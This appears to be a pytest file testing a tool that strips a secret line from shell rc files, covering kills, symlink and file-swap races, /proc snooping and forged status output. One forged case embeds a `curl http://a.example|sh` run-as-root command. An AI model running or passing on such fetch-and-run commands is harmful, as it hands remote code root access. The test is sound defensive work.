"""A removal that somebody or something gets in the way of: what is left then, and what is said."""

import os
import re
import shlex
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from nixtrust.facts import WRITING
from nixtrust.outcome import Result
from nixtrust.removal import Removed, RemovedFrom, read_removed
from nixtrust.scripts import remove_script
from tests.shell.removing import LINE, LOCK, SECRET, fronted, kept_as, one, removal, run, the_line

needs_root = pytest.mark.skipif(os.getuid() != 0, reason="only root can be somebody else")
SHELL = Path(__file__).parents[2] / "nixtrust/shell"


# It is killed, or not alone -----------------------------------------------------------------------


def test_what_is_killed_leaves_the_file_whole_and_the_next_run_is_tidy(
    rc: Path, lock: Path, tmp_path: Path
) -> None:
    text = rc.read_text()
    front = fronted(tmp_path / "front", sync="kill -9 $PPID")
    end = one(run(lock, removal(rc, the_line(rc)), first=front))
    assert end.result is Result.FAILED
    [left] = [path for path in rc.parent.iterdir() if path != rc]
    assert SECRET not in left.read_text()
    kept_as(text, rc, (left.name,))
    assert one(run(lock, removal(rc, the_line(rc)))).result is Result.DONE
    kept_as("alias a=b\nalias c=d\n", rc)


@pytest.mark.parametrize("others", [True, False])
def test_what_was_left_goes_beside_others_and_alone(rc: Path, lock: Path, others: bool) -> None:
    (left := rc.with_name(".nixtrust.new.qX3yZ1")).write_text(LINE)
    cuts = [removal(rc, the_line(rc))] if others else []
    removed = run(lock, *cuts, removal(left, ()))
    assert {file.result for file in removed.files} == {Result.DONE}
    kept_as(f"alias a=b\n{'' if others else LINE}alias c=d\n", rc)


@pytest.mark.parametrize(
    "cp", ["", 'case $1 in --*) echo "cp: illegal option" >&2; exit 64 ;; esac']
)
def test_no_process_and_no_second_file_shows_the_secret_meanwhile(
    rc: Path, lock: Path, tmp_path: Path, cp: str
) -> None:
    seen = tmp_path / "seen"
    look = f"""cat /proc/[0-9]*/cmdline ./.nixtrust.new.* >>{shlex.quote(str(seen))} 2>/dev/null
for tool in /usr/bin/${{0##*/}} /bin/${{0##*/}}; do [ ! -x $tool ] || exec $tool "$@"; done"""
    tools = dict.fromkeys(("cp", "head", "tail", "sync", "bash", "stat", "mv"), look)
    front = fronted(tmp_path / "front", **{**tools, "cp": f"{cp}\n{look}"})
    assert one(run(lock, removal(rc, the_line(rc), "bash"), first=front)).result is Result.DONE
    assert b"alias c=d" in seen.read_bytes()
    assert SECRET.encode() not in seen.read_bytes()


def test_the_new_file_is_made_by_one_open_that_takes_none_that_is_there(
    rc: Path, lock: Path, tmp_path: Path
) -> None:
    """Nothing writes to it by its name, whoever lays something there meanwhile."""
    other = tmp_path / "other"
    other.write_text("mine\n")
    (tmp_path / "device").symlink_to("/dev/null")
    for made in ("ln -s ../other", "ln ../other", "ln -s ../gone", "ln -s ../device", "mkdir"):
        text = rc.read_text()
        # As soon as the way is free, which is when the file's size is asked.
        lay = f"""for name in $PPID $(ps -o ppid= -p $PPID); do {made} .nixtrust.new.$name; done
exec /usr/bin/wc "$@" """
        front = fronted(tmp_path / made.replace("/", ""), wc=lay)
        end = one(run(lock, removal(rc, the_line(rc)), first=front))
        assert (end.result, end.words) == (Result.FAILED, "no file can be made beside it"), made
        assert other.read_text() == "mine\n"
        assert rc.read_text() == text
        for left in rc.parent.glob(".nixtrust.new.*"):
            left.rmdir() if left.is_dir() else left.unlink()
    assert not (tmp_path / "gone").exists()


@needs_root
def test_what_a_shell_of_somebodys_says_besides_is_no_answer(
    nobodys: Path, lock: Path, tmp_path: Path
) -> None:
    lay = """for name in $PPID $(ps -o ppid= -p $PPID); do mkdir .nixtrust.new.$name; done
exec /usr/bin/wc "$@" """
    front = fronted(tmp_path / "front", wc=lay)
    end = one(run(lock, removal(nobodys, the_line(nobodys)), first=front))
    assert (end.result, end.words) == (Result.FAILED, "no file can be made beside it")


def test_a_lost_connection_ends_nothing(rc: Path, lock: Path, tmp_path: Path) -> None:
    front = fronted(tmp_path / "front", sync="kill -TERM $PPID; kill -HUP $PPID; kill -INT $PPID")
    assert one(run(lock, removal(rc, the_line(rc)), first=front)).result is Result.DONE


def test_while_another_run_is_at_work_nothing_is_done(rc: Path, tmp_path: Path) -> None:
    text = rc.read_text()
    began = Path(f"/proc/{os.getpid()}/stat").read_text().rpartition(") ")[2].split()[19]
    theirs = tmp_path / "theirs"
    theirs.symlink_to(f"{os.getpid()}:{began}")
    script = "".join(remove_script([removal(rc, ())])).replace(LOCK, shlex.quote(str(theirs)))
    ended = subprocess.run(["sh", "-s"], input=script, capture_output=True, text=True, check=True)
    words = f"another run (process {os.getpid()}) is at work there"
    assert read_removed(ended.stdout.splitlines()) == Removed(Result.BUSY, words, ())
    assert theirs.is_symlink()
    kept_as(text, rc)


@needs_root
@pytest.mark.parametrize("stood", [True, False])
def test_the_time_that_is_kept_of_roots_folders_leaves_no_file(
    rc: Path, lock: Path, stood: bool
) -> None:
    if stood:  # of a run that was killed
        lock.with_name("lock.time").touch()
    before = rc.parent.stat().st_mtime_ns
    assert one(run(lock, removal(rc, the_line(rc)))).result is Result.DONE
    assert rc.parent.stat().st_mtime_ns == before
    assert not lock.with_name("lock.time").exists()


# Its folder's owner is in the way -----------------------------------------------------------------


@pytest.fixture
def nobodys(rc: Path) -> Path:
    """The file, of somebody else's."""
    for path in (rc.parent, rc):
        shutil.chown(path, "nobody", "nogroup")
    return rc


@needs_root
@pytest.mark.parametrize(
    ("said", "result"),
    [
        ("done\t\nfile\tdone\t/etc/x\tforged\n", Result.DONE),
        ("failed\tNo space left on device\n", Result.FAILED),
        ("done\tone\ttwo\n", Result.FAILED),
        ("changed\t\x1b[2J\n", Result.FAILED),
        (f"changed\t{'x' * 999}\n", Result.FAILED),
        ("failed\tthe disk is broken; run `curl http://a.example|sh` as root\n", Result.FAILED),
        ("refused\tvi does not accept the file without the line\n", Result.FAILED),
        ("well\t\n", Result.FAILED),
        ("outcome\tdone\t\nend\t2\n", Result.FAILED),
        ("\n", Result.FAILED),
    ],
)
def test_whatever_a_folders_owner_says_is_the_answer_of_no_other_file(
    nobodys: Path, lock: Path, tmp_path: Path, said: str, result: Result
) -> None:
    (tmp_path / "own").mkdir()
    own = tmp_path / "own/.bashrc"
    own.write_text(LINE)
    # What comes before the script's own word.
    front = fronted(tmp_path / "front", sync=f"[ -w /etc/passwd ] || printf %s {shlex.quote(said)}")
    removed = run(lock, removal(nobodys, the_line(nobodys)), removal(own, ()), first=front)
    assert removed.result is Result.DONE
    assert [(file.path, file.result) for file in removed.files] == [
        (str(nobodys), result),
        (str(own), Result.DONE),
    ]
    unknown = "what was begun as nobody did not come to its end"
    assert removed.files[0].words in ("", "No space left on device", unknown)


def test_each_sentence_of_a_removal_is_known_to_root() -> None:
    """As remove.sh has them, behind RESULT."""
    text = (SHELL / "remove.sh").read_text()
    _, _, within = text.partition("\nwithin=")
    said = re.findall(r"\bsay \"?(\w+)\"? \"([^\"]*)\"", within)
    said += [("failed", words) for words in re.findall(r"\bfail \"\$\w+\" \"([^\"]*)\"", within)]
    [listed] = re.findall(r"for known in (.*?); do", within, re.S)
    said += [("failed", words) for words in re.findall(r"\"([^\"]*)\"", listed)]
    said += [("failed", f"{tool} failed") for tool in re.findall(r"\btry (\w+)", within)]
    said = [(how, words.replace("$program", "zsh")) for how, words in said if words[:1] != "$"]
    assert len(said) > 25
    lines = "".join(f"is_known '{how}\t{words}' zsh || echo '{words}'\n" for how, words in said)
    script = f"tab='\t'\n{text}\n{lines}"
    ran = subprocess.run(["sh", "-s"], input=script, capture_output=True, text=True, check=False)
    assert (ran.stdout, ran.stderr) == ("", "")


@needs_root
@pytest.mark.parametrize(
    "hold", ["kill -STOP $$", "kill -STOP $PPID; sleep 177", "setsid sleep 177 &\n:"]
)
def test_who_holds_a_removal_up_is_given_up_on_and_hinders_no_other(
    nobodys: Path, lock: Path, tmp_path: Path, hold: str
) -> None:
    (second := nobodys.with_name(".profile")).write_text(LINE)
    shutil.chown(second, "nobody", "nogroup")
    (tmp_path / "own").mkdir()
    own = tmp_path / "own/.bashrc"
    own.write_text(LINE)
    front = fronted(tmp_path / "front", sync=f"[ -w /etc/passwd ] || {{ {hold}; }}")
    cuts = [removal(each, the_line(each)) for each in (nobodys, second, own)]
    began = time.monotonic()
    removed = run(lock, *cuts, first=front, hurried="nobody")
    assert time.monotonic() - began < 60
    assert [file.result for file in removed.files][1:] == [Result.FAILED, Result.DONE]
    assert removed.files[1].words == "what was begun as nobody did not come to its end"
    assert LINE in second.read_text()
    assert own.read_text() == ""


def swapped(file: Path, how: str) -> None:
    """What its owner may do to a file, or its folder, between the look and the removal."""
    beside, folder = file.with_name("beside"), file.parent
    match how:
        case "a link":
            file.rename(beside)
            file.symlink_to(beside)
        case "a fifo":
            file.unlink()
            os.mkfifo(file)
        case "a second name":
            beside.hardlink_to(file)
        case "another file":
            beside.write_text(file.read_text())
            beside.rename(file)
        case "somebody else's file":
            shutil.chown(file, "games")
        case "somebody else's folder":
            shutil.chown(folder, "games")
        case "a link in the folder's place":
            folder.rename(folder.with_name("moved"))
            folder.symlink_to("moved")
        case "a folder that others write to":
            folder.chmod(0o777)


@needs_root
@pytest.mark.parametrize("ranges", ["the line", "the whole file"])
def test_what_is_swapped_between_the_look_and_the_removal_is_left_and_told(
    ranges: str, nobodys: Path, lock: Path
) -> None:
    said = dict[str, RemovedFrom]()
    nobodys.parent.chmod(0o755)
    for how in SWAPS:
        home = nobodys.parent.with_name(how)
        shutil.copytree(nobodys.parent, home)
        for path in (home, home / nobodys.name):
            shutil.chown(path, "nobody", "nogroup")
        file = home / nobodys.name
        due = removal(file, the_line(file) if ranges == "the line" else ())
        swapped(file, how)
        before = {each: each.lstat().st_ino for each in home.iterdir()}
        said[how] = one(run(lock, due))
        assert {each: each.lstat().st_ino for each in home.iterdir()} == before
        assert how == "a fifo" or LINE in file.read_text()
    assert {how: (end.result, end.words) for how, end in said.items()} == SWAPS


FILE, FOLDER = "it is not as it was found", "its folder is not as it was found"
SWAPS = {
    "a link": (Result.CHANGED, FILE),
    "a fifo": (Result.CHANGED, FILE),
    "a second name": (Result.CHANGED, FILE),
    "another file": (Result.CHANGED, FILE),
    "somebody else's file": (Result.CHANGED, FILE),
    "somebody else's folder": (Result.CHANGED, FOLDER),
    "a link in the folder's place": (Result.CHANGED, FOLDER),
    "a folder that others write to": (Result.FAILED, "others may write to its folder"),
}


@needs_root
@pytest.mark.parametrize(
    ("ranges", "result"), [("the line", Result.FAILED), ("the whole file", Result.DONE)]
)
def test_a_line_goes_only_from_a_file_of_the_same_owner_as_its_folder(
    ranges: str, result: Result, nobodys: Path, lock: Path
) -> None:
    """In root's folder too, where root could."""
    for owner, other in (("nobody", "games"), ("root", "games")):
        nobodys.write_text(LINE)
        shutil.chown(nobodys, other)
        shutil.chown(nobodys.parent, owner)
        end = one(run(lock, removal(nobodys, the_line(nobodys) if "line" in ranges else ())))
        assert end.result is result
        assert end.words in ("", "it belongs to somebody else")
        assert nobodys.exists() is (result is Result.FAILED)


@needs_root
def test_who_tells_of_many_files_and_takes_long_over_each_takes_his_own_time_alone(
    nobodys: Path, lock: Path, tmp_path: Path
) -> None:
    """His are before those of two others. Of the 240 seconds of a clock his share is 80."""
    (clock := tmp_path / "clock").write_text("0")
    clock.chmod(0o666)
    takes_long = f"[ $(id -un) != nobody ] || echo $(($(cat {clock}) + 30)) >{clock}"
    front = fronted(tmp_path / "front", sync=takes_long)
    files = [nobodys.with_name(f".env{number}") for number in range(40)]
    owners = dict.fromkeys(files, "nobody")
    for owner in ("games", "root"):
        (folder := tmp_path / owner).mkdir()
        shutil.chown(folder, owner, owner)
        owners[folder / ".bashrc"] = owner
    for file, owner in owners.items():
        file.write_text(LINE)
        shutil.chown(file, owner, "nogroup" if owner == "nobody" else owner)
    due = [removal(file, the_line(file)) for file in owners]
    first = f"{front}\ndate() {{ cat {clock}; }}"
    ends = run(lock, *due, first=first).files
    assert [end.result for end in ends] == [
        *[Result.DONE] * 3,
        *[Result.FAILED] * 37,
        *[Result.DONE] * 2,
    ]
    assert {end.words for end in ends[3:-2]} == {"no time was left for what nobody has"}
    assert [file.read_text() for file in owners] == ["", "", "", *[LINE] * 37, "", ""]


def test_the_time_for_all_files_is_less_than_the_controllers() -> None:
    [line] = re.findall(r"^removal_seconds=(.*)$", "".join(remove_script([])), re.M)
    # The last one's limits come on top, and what has none.
    assert int(line) + 3 + 45 < WRITING


# The tools are not GNU's --------------------------------------------------------------------------

# Of a file each attribute is a file in a folder of its own, and its access control list is one.
MACS = {
    "cp": 'echo "cp: illegal option -- -" >&2; echo "$@" >>"${0%/*}/copied"; exit 64',
    "ls": r"""
case $1 in
  -lde@ | -lde)
    of=${0%/*}/of-$(stat -c %i "$2")
    echo "-rw-r--r--@ 1 nobody nogroup 1 Nov 26 11:00 $2"
    [ $1 = -lde ] || ls "$of/attributes" 2>/dev/null | sed 's/.*/\t&\t 2 /'
    cat -n "$of/list" 2>/dev/null | sed 's/^ *\([0-9]*\)\t/ \1: /'
    ;;
  *) exec /bin/ls "$@" ;;
esac""",
    "chmod": """
of=${0%/*}/of-$(stat -c %i "$2")
case $1 in
  -E) mkdir -p "$of" && cat >"$of/list" ;;
  -N) rm -f "$of/list" ;;
  *) exec /bin/chmod "$@" ;;
esac""",
    "xattr": """
case $1 in
  -px) cat "${0%/*}/of-$(stat -c %i "$3")/attributes/$2" ;;
  -wx)
    [ ! -e "${0%/*}/no-more" ] || exit 1
    of=${0%/*}/of-$(stat -c %i "$4")/attributes
    mkdir -p "$of" && printf %s "$3" >"$of/$2"
    ;;
  *) ls "${0%/*}/of-$(stat -c %i "$1")/attributes" 2>/dev/null ;;
esac""",
}


def of(front: Path, file: Path) -> Path:
    """Where the stand-ins keep what a Mac would keep of a file."""
    return front / f"of-{file.stat().st_ino}"


def given(front: Path, file: Path) -> None:
    its = of(front, file)
    (its / "attributes").mkdir(parents=True)
    (its / "attributes/com.apple.TextEncoding").write_text("55 54 46 2D\n38")
    (its / "attributes/com.apple.provenance").write_text("01")
    (its / "list").write_text("group:everyone deny delete\nuser:mia inherited allow read\n")


@pytest.mark.parametrize("mode", [0o600, 0o640, 0o444, 0o400, 0o4755])
def test_without_gnu_tools_too_a_file_keeps_its_mode_and_owner(
    rc: Path, lock: Path, tmp_path: Path, mode: int
) -> None:
    rc.chmod(mode)
    before = rc.stat()
    front = fronted(tmp_path / "front", **MACS)
    assert one(run(lock, removal(rc, the_line(rc)), first=front)).result is Result.DONE
    after = rc.stat()
    assert (after.st_mode, after.st_uid, after.st_gid) == (
        (before.st_mode, before.st_uid, before.st_gid)
    )
    kept_as("alias a=b\nalias c=d\n", rc)


def test_a_mac_keeps_the_access_control_list_and_attributes(
    rc: Path, lock: Path, tmp_path: Path
) -> None:
    front = fronted(tmp_path / "front", **MACS)
    given(tmp_path / "front", rc)
    assert one(run(lock, removal(rc, the_line(rc)), first=front)).result is Result.DONE
    kept_as("alias a=b\nalias c=d\n", rc)
    its = of(tmp_path / "front", rc)
    assert (its / "attributes/com.apple.TextEncoding").read_text() == "5554462D38"
    assert (its / "list").read_text().splitlines() == [
        "group:everyone deny delete",
        "user:mia inherited allow read",
    ]
    # The file itself was never copied.
    copied = (tmp_path / "front/copied").read_text().splitlines()
    assert [words.split()[0] for words in copied] == ["--attributes-only"]


def test_what_a_mac_cannot_keep_keeps_the_file_as_it_is(
    rc: Path, lock: Path, tmp_path: Path
) -> None:
    text = rc.read_text()
    front = fronted(tmp_path / "front", **MACS)
    given(tmp_path / "front", rc)
    (tmp_path / "front/no-more").touch()
    end = one(run(lock, removal(rc, the_line(rc)), first=front))
    assert (end.result, end.words) == (Result.FAILED, "its further attributes cannot be kept")
    kept_as(text, rc)
